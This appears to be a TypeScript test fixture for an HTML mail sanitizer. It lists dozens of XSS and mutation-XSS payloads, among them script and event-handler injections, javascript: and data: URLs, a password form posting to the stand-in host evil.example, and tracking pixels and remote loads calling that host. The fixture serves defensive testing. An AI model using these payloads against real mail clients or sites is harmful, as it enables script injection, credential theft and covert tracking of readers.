/** Where hostile mail would send what it learns. No test may see a request to it. */
export const EVIL = "evil.example";

const RUN = "alert(document.domain);parent.postMessage('ran','*')";

/**
 * What public lists of attacks on pages and on programs that show mail try, each kind in mails of its own. Those of
 * one list stand in one mail.
 */
export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC="https://${EVIL}/x.js"></SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script\x20type="text/javascript">${RUN}</script>`,
    `<script/x>${RUN}</script>`,
    `<<script>${RUN}//<</script>`,
  ],
  handlers: [
    `<img src=x onerror="${RUN}">`,
    `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
    `<body onload="${RUN}">`,
    `<input autofocus onfocus="${RUN}">`,
    `<details open ontoggle="${RUN}"><summary>Open</summary></details>`,
    `<video><source onerror="${RUN}"></video>`,
    `<marquee onstart="${RUN}">Moving</marquee>`,
    `<div onmouseover="${RUN}" onpointerenter="${RUN}">Over here</div>`,
    `<p style="animation: x" onanimationstart="${RUN}">Animated</p>`,
    `<img """><script>${RUN}</script>">`,
    `<img/src="x"/onerror="${RUN}">`,
  ],
  "foreign namespaces": [
    `<svg onload="${RUN}"></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">Click</text></a></svg>`,
    `<svg><use href="https://${EVIL}/x.svg#a"></use></svg>`,
    `<svg><image href="https://${EVIL}/x.png"></image></svg>`,
    `<svg><foreignObject><iframe src="https://${EVIL}/"></iframe></foreignObject></svg>`,
    `<math><mi xlink:href="javascript:${RUN}">Click</mi></math>`,
    `<math><maction actiontype="statusline#https://${EVIL}" xlink:href="javascript:${RUN}">Click</maction></math>`,
  ],
  addresses: [
    `<a href="javascript:${RUN}">Click</a>`,
    `<a href="JaVaScRiPt:${RUN}">Click</a>`,
    `<a href="&#106;avascript:${RUN}">Click</a>`,
    `<a href="jav&#x09;ascript:${RUN}">Click</a>`,
    `<a href="java\nscript:${RUN}">Click</a>`,
    `<a href="\u0001javascript:${RUN}">Click</a>`,
    `<a href=" &#14; javascript:${RUN}">Click</a>`,
    `<a href="vbscript:msgbox(1)">Click</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">Click</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>`,
    `<a href="ｊavascript:${RUN}">Click</a>`,
    `<a href="//${EVIL}/x">Click</a>`,
    `<area href="javascript:${RUN}">`,
  ],
  "pages in pages": [
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe src="https://${EVIL}/"></iframe>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<object data="https://${EVIL}/x.swf"></object>`,
    `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
    `<embed src="https://${EVIL}/x.swf">`,
    `<applet code="x" codebase="https://${EVIL}/"></applet>`,
    `<frameset><frame src="https://${EVIL}/"></frameset>`,
    `<portal src="https://${EVIL}/"></portal>`,
  ],
  forms: [
    `<form action="https://${EVIL}/" method="post"><input name="password"><button>Sign in</button></form>`,
    `<form id="f"></form><button form="f" formaction="javascript:${RUN}">Go</button>`,
    `<isindex action="javascript:${RUN}">`,
    `<input type="image" src="https://${EVIL}/x.png" formaction="https://${EVIL}/">`,
  ],
  "what moves the page": [
    `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<base href="https://${EVIL}/"><img src="x.png"><a href="/y">Click</a>`,
    `<meta http-equiv="Set-Cookie" content="a=b">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  ],
  styles: [
    `<style>@import "https://${EVIL}/x.css"; body { background: url(https://${EVIL}/b.png) }</style>`,
    `<link rel="stylesheet" href="https://${EVIL}/x.css">`,
    `<div style="background: url(https://${EVIL}/x.png)">Styled</div>`,
    `<div style="background:&#117;rl(https://${EVIL}/y.png)">Styled</div>`,
    `<div style="width: expression(alert(1))">Styled</div>`,
    `<div style="behavior: url(https://${EVIL}/x.htc); -moz-binding: url(https://${EVIL}/x.xml)">Styled</div>`,
    `<div style="position:fixed;inset:0;z-index:9999;background:red">Over all</div>`,
    `<style>@font-face { font-family: x; src: url(https://${EVIL}/x.woff) } p { font-family: x }</style>`,
  ],
  "what loads from elsewhere": [
    `<img src="https://${EVIL}/pixel.gif?who=1" width="1" height="1">`,
    `<img src="//${EVIL}/pixel.gif">`,
    `<img srcset="https://${EVIL}/1.png 1x, https://${EVIL}/2.png 2x">`,
    `<picture><source srcset="https://${EVIL}/p.webp"><img src="x"></picture>`,
    `<table background="https://${EVIL}/t.png"><tr><td background="https://${EVIL}/d.png">Cell</td></tr></table>`,
    `<body background="https://${EVIL}/b.png">`,
    `<video poster="https://${EVIL}/v.png" src="https://${EVIL}/v.mp4" autoplay></video>`,
    `<audio src="https://${EVIL}/a.mp3" autoplay></audio><track src="https://${EVIL}/t.vtt">`,
    `<link rel="prefetch" href="https://${EVIL}/f"><link rel="dns-prefetch" href="//${EVIL}">`,
    `<link rel="preload" as="image" href="https://${EVIL}/l.png"><link rel="icon" href="https://${EVIL}/i.ico">`,
    `<img src="https://${EVIL}/lazy.png" loading="lazy" crossorigin="use-credentials">`,
    `<a href="https://shop.example.com/" ping="https://${EVIL}/ping">Shop</a>`,
    `<img dynsrc="https://${EVIL}/d.avi" lowsrc="https://${EVIL}/l.gif">`,
    `<bgsound src="https://${EVIL}/b.mid"><q cite="https://${EVIL}/q">Quote</q>`,
  ],
};

/** Attacks that swallow what follows them, so that each stands in a mail of its own. */
export const MUTATING: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<template><img src=x onerror="${RUN}"></template><template><script>${RUN}</script></template>`,
  `<select><template><style></select><img src=x onerror="${RUN}"></style></template></select>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>">`,
  `<textarea><img title="</textarea><img src=x onerror='${RUN}'>"></textarea>`,
  `<title><img title="</title><img src=x onerror='${RUN}'>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror='${RUN}'>"></xmp>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
];
